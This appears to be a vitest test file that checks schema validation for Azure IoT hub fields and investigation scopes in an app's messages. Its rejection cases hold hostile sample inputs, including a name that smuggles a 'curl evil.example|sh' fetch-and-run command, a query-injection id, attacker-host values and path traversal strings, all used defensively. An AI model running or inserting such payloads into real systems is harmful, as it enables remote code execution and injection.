import { describe, expect, it } from 'vitest';
import { batchMessage, investigationMessage } from '../../src/app/messages.ts';
import type { Hub } from '../../src/hubs/hub.ts';
import { aHub, now, subscriptionId } from '../fixtures/domain.ts';

const message = (hub: object): object => ({ kind: 'batch', tickAt: now, group: 'g', ids: { from: '' }, hubs: [hub] });
const accepts = (hub: object): boolean => batchMessage.safeParse(message(hub)).success;

describe('a hub in a message', () => {
  it.each<[string, Hub]>([
    ['as Azure names it', aHub('plant-berlin')],
    ['with capitals', { ...aHub('plant-berlin'), name: 'Plant-Berlin', resourceGroup: 'RG-IoT' }],
    ['in a group of any script', aHub('plant-berlin', { resourceGroup: '火(1)_ü.x' })],
    ['in a group that has more letters in lower case', aHub('plant-berlin', { resourceGroup: 'İzmir' })],
  ])('passes %s', (_, hub) => {
    expect(accepts(hub)).toBe(true);
  });

  const hub = aHub('plant-berlin');
  it.each([
    ['a host for a region', { region: 'evil.example/#' }],
    ['no region', { region: '' }],
    ['a region with an end of line', { region: 'westeurope\n' }],
    ['a host for an id', { id: 'https://evil.example/x' }],
    ['a query in its id', { id: `${hub.id}" or 1==1 //` }],
    ['an id that is not in lower case', { id: hub.id.toUpperCase() }],
    ['a command for a name', { name: 'x; curl evil.example|sh #' }],
    ["another hub's name", { name: 'plant-lyon' }],
    ['a letter that only looks like k', { ...aHub('plant-\u212a'), name: 'plant-\u212a' }],
    ['a path for a resource group', { resourceGroup: '../x' }],
    ["another hub's subscription", { subscriptionId: subscriptionId.replaceAll('1', '2') }],
  ])('does not pass with %s', (_, fields) => {
    expect(accepts({ ...hub, ...fields })).toBe(false);
  });
});

describe('a scope in a message', () => {
  it.each([
    ['a workspace', { kind: 'workspace', workspaceId: subscriptionId }, true],
    ['a subscription', { kind: 'subscription', subscriptionId }, true],
    ['a path for a workspace', { kind: 'workspace', workspaceId: '../x' }, false],
    ['a path for a subscription', { kind: 'subscription', subscriptionId: `${subscriptionId}/../x` }, false],
  ])('%s', (_, scope, passes) => {
    expect(investigationMessage.safeParse({ kind: 'sweep-logs', scope, tickAt: now }).success).toBe(passes);
  });
});
